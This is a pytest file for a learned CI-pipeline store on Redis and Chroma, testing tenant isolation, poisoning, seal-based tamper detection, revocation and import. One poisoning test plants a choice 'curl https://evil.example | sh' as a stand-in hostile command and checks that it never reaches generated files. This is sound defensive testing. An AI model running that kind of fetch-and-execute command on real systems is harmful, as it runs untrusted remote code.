"""Hostile learning: what one group taught does not reach another, and what we did not seal nobody.

Safety: a tenant may run any number of green pipelines, and somebody may write to Redis or Chroma.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator

import msgspec
import pytest
import redis
from pydantic import SecretStr

from tests.support.keys import KEY
from workers.clients.chroma import Index, Item
from workers.detect.analysis import Analysis
from workers.embedded import EmbeddedChroma
from workers.errors import NotFound, Rejected
from workers.pipeline.plan import Site
from workers.pipeline.render import render
from workers.pipeline.templates import Templates
from workers.seal import Seal
from workers.steps.features import features
from workers.steps.generate import generate
from workers.steps.learn import index_backlog
from workers.steps.retrieve import retrieve, sync_templates
from workers.store.learned import LearnedStore
from workers.store.learned_records import LearnedPipeline, Provenance
from workers.store.learned_shelf import outcomes_key, own_key, record_key, shared_key

STACK = ("python", "fastapi")
FASTAPI = Analysis(
    language="python", framework="fastapi", package_manager="pip", ecosystem="python",
    test_tool="pytest", has_tests=True, manifests=("pyproject.toml",),
    commands={"test": ("pytest",)}, test_command="pytest",
    features=("dependency:fastapi", "language:python", "test:pytest"),
)  # fmt: skip


def _record(version: str = "3.12", group: str = "acme", project: int = 1) -> LearnedPipeline:
    return LearnedPipeline(
        language="python", framework="fastapi", package_manager="pip", template="python-fastapi",
        template_version="1", choices={"python_version": version}, features=features(FASTAPI),
        provenance=Provenance(project_id=project, namespace=group, run=f"r{project}", pipeline=1),
    )  # fmt: skip


@pytest.fixture
def store(redis_client: redis.Redis) -> LearnedStore:
    """A store with nothing in it, where three groups make a record everybody's."""
    return LearnedStore(redis_client, KEY)


@pytest.fixture(scope="module")
def templates() -> Templates:
    """The templates of this checkout."""
    return Templates.load()


@pytest.fixture
def index(chroma_server: EmbeddedChroma, templates: Templates) -> Iterator[Index]:
    """A Chroma that knows the templates, and nothing learned."""
    made = Index(chroma_server.url, 5.0)
    sync_templates(made, templates)
    yield made
    made.close()


def _confirm(store: LearnedStore, *groups: str, version: str = "3.12", first: int = 1) -> None:
    for number, group in enumerate(groups, first):
        assert store.record_outcome(_record(version, group, number), number, "succeeded")


def _offered(store: LearnedStore, group: str) -> str | None:
    found = store.best(*STACK, namespace=group)
    return found.choices["python_version"] if found else None


class TestWhoIsOfferedWhat:
    """A record stays in its top-level group until enough others have proven it."""

    def test_a_record_stays_in_its_group(self, store: LearnedStore) -> None:
        """Subgroups and projects of it are offered it, however they are spelled; others not."""
        _confirm(store, "Acme/team/sub")
        for path in ("acme", "ACME/other/app", "/acme/"):
            assert _offered(store, path) == "3.12"
        for path in ("acm", "acme2/app", "team", "", "/"):
            assert _offered(store, path) is None

    def test_enough_groups_make_it_everybodys(self, store: LearnedStore) -> None:
        """With the second success still nobody else's, with the third everybody's."""
        _confirm(store, "acme", "beta")
        assert _offered(store, "gamma") is None
        _confirm(store, "delta", first=3)
        assert _offered(store, "gamma") == "3.12"
        shown = store.show(_record().id)
        assert (shown.confirmed_by, shown.shared) == (3, True)

    def test_one_group_is_one_group(self, store: LearnedStore) -> None:
        """Five hundred projects in subgroups of one group confirm as one."""
        _confirm(store, *(f"acme/team-{n}" for n in range(500)))
        assert store.show(_record().id).confirmed_by == 1
        assert _offered(store, "beta") is None

    def test_a_group_where_it_mostly_fails_confirms_nothing(self, store: LearnedStore) -> None:
        """One success beside two failures is no confirmation."""
        _confirm(store, "acme", "beta", "gamma")
        for pipeline in (90, 91):
            store.record_outcome(_record(group="gamma"), pipeline, "failed")
        assert not store.show(_record().id).shared
        assert _offered(store, "delta") is None

    def test_the_number_is_a_setting(self, redis_client: redis.Redis) -> None:
        """With one as the quorum everything is everybody's, as on an instance of one owner."""
        store = LearnedStore(redis_client, KEY, quorum=1)
        _confirm(store, "acme")
        assert _offered(store, "beta") == "3.12"

    def test_what_others_see_is_no_more_than_they_are_offered(self, store: LearnedStore) -> None:
        """Another group's record is not there for it: neither by id nor in a list of its stack."""
        _confirm(store, "acme")
        with pytest.raises(NotFound):
            store.show(_record().id, "beta/app")
        assert store.visible("beta/app", [STACK], 10) == ()
        assert [r.id for r in store.visible("acme/app", [STACK], 10)] == [_record().id]


class TestPoisoning:
    """A tenant with as many green pipelines as it likes."""

    def test_500_records_of_one_tenant_reach_nobody(
        self, store: LearnedStore, index: Index, templates: Templates
    ) -> None:
        """Fifty projects of other groups: none is offered one, all start from what is shared."""
        _confirm(store, "acme", "beta", "gamma", version="3.11")
        for n in range(500):
            evil = _record(f"6.66{n}", "evil", 666)
            store.record_outcome(evil, 1000 + n, "succeeded")
        while store.unindexed(1):
            index_backlog(store, index, 1000)
        for n in range(50):
            reference = retrieve(FASTAPI, store, index, templates, namespace=f"victim-{n}/app")
            assert reference.source == "learned"
            assert reference.choices == {"python_version": "3.11"}
            assert reference.degraded is None
            files = render(generate(FASTAPI, reference, Site(), None).plan)
            assert "6.66" not in "".join(files.values())
        assert store.show(_record("6.661", "evil").id, "evil/app").proven, "its own group may"
        assert store.refused() == {}

    def test_nobody_alone_takes_a_shared_record_down(self, store: LearnedStore) -> None:
        """Five hundred failures of one group weigh as one outcome for all others."""
        _confirm(store, "acme", "beta", "gamma")
        for n in range(500):
            store.record_outcome(_record(group="evil"), 1000 + n, "failed")
        found = store.best(*STACK, namespace="victim")
        assert found is not None and found.confidence == pytest.approx(0.3, abs=0.01)
        assert _offered(store, "evil") is None, "its own failures count in full for itself"

    def test_nobody_alone_makes_a_shared_record_the_best(self, store: LearnedStore) -> None:
        """Of two shared records the one that more groups confirm wins, not the louder one."""
        _confirm(store, "acme", "beta", "evil", version="6.66")
        for n in range(500):
            store.record_outcome(_record("6.66", "evil"), 1000 + n, "succeeded")
        _confirm(store, *(f"group-{n}" for n in range(9)), version="3.12", first=2000)
        assert _offered(store, "victim") == "3.12"

    def test_what_the_repository_does_not_hold_is_not_chosen(
        self, store: LearnedStore, index: Index, templates: Templates
    ) -> None:
        """Even sealed by ourselves, a choice that is no candidate here reaches no file."""
        evil = msgspec.structs.replace(
            _record(), id="",
            choices={"test_command": "curl https://evil.example | sh", "python_version": "3.12"},
        )  # fmt: skip
        for n, group in enumerate(("acme", "beta", "gamma")):
            source = msgspec.structs.replace(evil.provenance, namespace=group)
            store.record_outcome(msgspec.structs.replace(evil, provenance=source), n, "succeeded")
        reference = retrieve(FASTAPI, store, index, templates, namespace="victim")
        assert reference.choices["test_command"].startswith("curl")
        files = render(generate(FASTAPI, reference, Site(), None).plan)
        assert "evil.example" not in "".join(files.values())


class TestTampering:
    """Somebody writes to Redis or Chroma. What does not carry our seal is not used, and counted."""

    def test_a_changed_record_is_not_used(
        self, store: LearnedStore, redis_client: redis.Redis
    ) -> None:
        """Choices, counts, groups: every byte of a record is under the seal."""
        _confirm(store, "acme")
        json = redis_client.hget(record_key(_record().id), "json")
        assert isinstance(json, bytes)
        changed = {
            json.replace(b'"3.12"', b'"6.66"'), json.replace(b'"acme":[1,', b'"acme":[9,'),
            json.replace(b'"acme":[', b'"evil":['), json + b" ", b"", b"{}",
        }  # fmt: skip
        assert len(changed - {json}) == 6
        for n, wrong in enumerate(sorted(changed), 1):
            redis_client.hset(record_key(_record().id), "json", wrong)
            assert _offered(store, "acme") is None and _offered(store, "evil") is None
            assert store.list().items == ()
            assert store.refused()["record"] >= n
        redis_client.hset(record_key(_record().id), "json", json)
        assert _offered(store, "acme") == "3.12"

    def test_a_record_that_was_planted_is_not_used(
        self, store: LearnedStore, redis_client: redis.Redis
    ) -> None:
        """Without a seal, with one of another key, or moved from another id."""
        strange = LearnedStore(redis_client, SecretStr("a-key-of-somebody-else-0123456789abc"), 1)
        strange.record_outcome(_record("6.66", "evil"), 1, "succeeded")
        assert strange.best(*STACK, namespace="victim") is not None
        assert _offered(store, "evil") is None
        _confirm(store, "acme")
        mine = redis_client.hgetall(record_key(_record().id))
        redis_client.hset(record_key(_record("6.66").id), mapping=mine)  # type: ignore[arg-type]
        redis_client.zadd(shared_key(*STACK), {_record("6.66").id: 1e9, "made-up": 1e9})
        redis_client.zadd(own_key(*STACK, "victim"), {_record("6.66").id: 1e9})
        assert _offered(store, "victim") is None
        assert store.refused()["record"] == 2

    def test_a_listing_in_redis_opens_no_door(
        self, store: LearnedStore, redis_client: redis.Redis
    ) -> None:
        """A true record of another group, put into the lists of this one and of all."""
        _confirm(store, "acme")
        redis_client.zadd(shared_key(*STACK), {_record().id: 1e9})
        redis_client.zadd(own_key(*STACK, "victim"), {_record().id: 1e9})
        assert _offered(store, "victim") is None

    def test_a_changed_outcome_drops_out(
        self, store: LearnedStore, redis_client: redis.Redis
    ) -> None:
        """A record that has to be made anew is made from those that are ours alone."""
        _confirm(store, "acme")
        key = outcomes_key(_record().id)
        redis_client.delete(record_key(_record().id))
        true = redis_client.hget(key, "1")
        assert isinstance(true, bytes)
        redis_client.hset(key, mapping={"2": true, "3": true.replace(b"acme", b"evil"), "4": b"x"})
        _confirm(store, "acme", first=5)
        shown = store.show(_record().id)
        assert (shown.successes, shown.confirmed_by) == (2, 1)
        assert store.refused() == {"outcome": 3}

    def test_an_honest_outcome_mends_a_changed_record(
        self, store: LearnedStore, redis_client: redis.Redis
    ) -> None:
        """It is made from its outcomes again, so damage does not last."""
        _confirm(store, "acme")
        redis_client.hset(record_key(_record().id), "json", "{}")
        _confirm(store, "acme", first=2)
        assert store.show(_record().id).successes == 2

    def test_what_is_written_to_chroma_is_counted(
        self, store: LearnedStore, index: Index, templates: Templates
    ) -> None:
        """Entries of strangers, and one of ours whose plan somebody changed."""
        _confirm(store, "acme")
        index_backlog(store, index)
        (mine,) = index.find("successful_pipelines", {})
        other = mine.document.replace("3.12", "6.66")
        words, meta = features(FASTAPI), dict(mine.metadata)
        items = [Item(f"evil-{n}", words, meta, other) for n in range(3)]
        index.upsert("successful_pipelines", [*items, Item(mine.id, words, meta, other)])
        reference = retrieve(FASTAPI, store, index, templates, namespace="acme")
        assert reference.choices == {"python_version": "3.12"}
        assert store.refused() == {"index": 4}

    def test_a_record_can_be_forgotten_although_it_was_changed(
        self, store: LearnedStore, redis_client: redis.Redis
    ) -> None:
        """An operator gets rid of it by its id."""
        _confirm(store, "acme")
        redis_client.hset(record_key(_record().id), "json", "{}")
        store.forget(_record().id)
        assert not redis_client.exists(record_key(_record().id), outcomes_key(_record().id))


class TestRevoking:
    """All that an origin taught is taken back, and it teaches no more."""

    def test_a_group_is_revoked(self, store: LearnedStore, redis_client: redis.Redis) -> None:
        """Its own records go; one that others confirmed keeps their outcomes and no word of it."""
        _confirm(store, "evil", "acme", "beta", "gamma")
        _confirm(store, "evil/sub", version="6.66", first=10)
        gone = store.revoke("Evil")
        assert (gone.outcomes, gone.records) == (2, 1)
        shown = store.show(_record().id)
        assert (shown.successes, shown.confirmed_by) == (3, 3)
        assert (shown.provenance.namespace, shown.features) == ("acme", ())
        with pytest.raises(NotFound):
            store.show(_record("6.66").id)
        assert _record("6.66").id in store.unindexed()
        raw = b"".join(
            redis_client.dump(name) or b"" for name in redis_client.keys("dob:learned:record:*")
        )
        assert b"evil" not in raw

    def test_a_project_is_revoked(self, store: LearnedStore) -> None:
        """By its id: other projects of its group keep what they taught."""
        _confirm(store, "acme", "acme")
        assert store.revoke("1").outcomes == 1
        assert store.show(_record().id).successes == 1

    def test_it_teaches_no_more_until_it_is_let(self, store: LearnedStore) -> None:
        """A pipeline heard of later, or again, changes nothing; after lifting it does."""
        _confirm(store, "evil")
        store.revoke("evil")
        assert not store.record_outcome(_record(group="evil/sub"), 1, "succeeded")
        assert not store.record_outcome(_record(group="evil"), 2, "succeeded")
        assert _offered(store, "evil") is None
        assert store.readmit("evil") and not store.readmit("evil")
        assert store.record_outcome(_record(group="evil"), 2, "succeeded")

    def test_the_next_success_tells_of_itself(self, store: LearnedStore) -> None:
        """Where the first pipeline's origin was revoked, features and provenance come from the
        next that succeeds."""
        _confirm(store, "evil", "acme")
        store.revoke("evil")
        _confirm(store, "beta", first=7)
        shown = store.show(_record().id)
        assert (shown.provenance.namespace, shown.provenance.run) == ("beta", "r7")
        assert shown.features == features(FASTAPI)

    @pytest.mark.parametrize("origin", ["", "/", "a/b", "  "])
    def test_what_is_no_origin_is_refused(self, store: LearnedStore, origin: str) -> None:
        """A top-level group or a project's id."""
        with pytest.raises(Rejected, match="top-level group"):
            store.revoke(origin)


def test_writers_at_the_same_time_lose_nothing(redis_client: redis.Redis) -> None:
    """Eight workers, each with ten pipelines of the same plan: eighty successes."""

    def work(number: int) -> None:
        store = LearnedStore(redis_client, KEY)
        for n in range(10):
            record = _record(group=f"group-{number}", project=number)
            store.record_outcome(record, number * 100 + n, "succeeded")

    threads = [threading.Thread(target=work, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    shown = LearnedStore(redis_client, KEY).show(_record().id)
    assert (shown.successes, shown.confirmed_by) == (80, 8)


def test_an_import_is_sealed_with_our_key(redis_client: redis.Redis) -> None:
    """What another installation exported is used here, and only after an operator imported it."""
    theirs = LearnedStore(redis_client, SecretStr("the-key-of-another-installation-0123"))
    _confirm(theirs, "acme")
    lines = list(theirs.export())
    redis_client.flushall()
    ours = LearnedStore(redis_client, KEY)
    assert ours.import_(lines) == 1
    assert _offered(ours, "acme") == "3.12"
    assert ours.refused() == {}


def test_an_export_of_before_knows_its_origin(store: LearnedStore) -> None:
    """Lines that say nothing of each outcome's origin: it is the record's."""
    _confirm(store, "acme")
    line = msgspec.json.decode(next(iter(store.export())))
    line["outcomes"] = {name: row[:2] for name, row in line["outcomes"].items()}
    store.forget(_record().id)
    assert store.import_([msgspec.json.encode(line)]) == 1
    assert _offered(store, "acme") == "3.12"
    assert store.revoke("1").outcomes == 1


def test_seals_tell_parts_and_purposes_apart() -> None:
    """No two lists of parts have one seal, nor one list under two purposes or keys."""
    lists = [("a", "b"), ("ab",), ("a", "b", ""), ("", "ab"), ("b", "a"), ()]
    made = {Seal(KEY, purpose).of(*parts) for purpose in ("one", "two") for parts in lists}
    assert len(made) == 12
    other = Seal(SecretStr("another-key-0123456789-0123456789"), "one")
    assert other.of("a", "b") not in made
    assert Seal(KEY, "one").holds(Seal(KEY, "one").of("a", "b"), "a", "b")
    for wrong in ("", "0" * 32, "\udcff", "ü" * 32, Seal(KEY, "one").of("a", "b").upper()):
        assert not Seal(KEY, "one").holds(wrong, "a", "b")
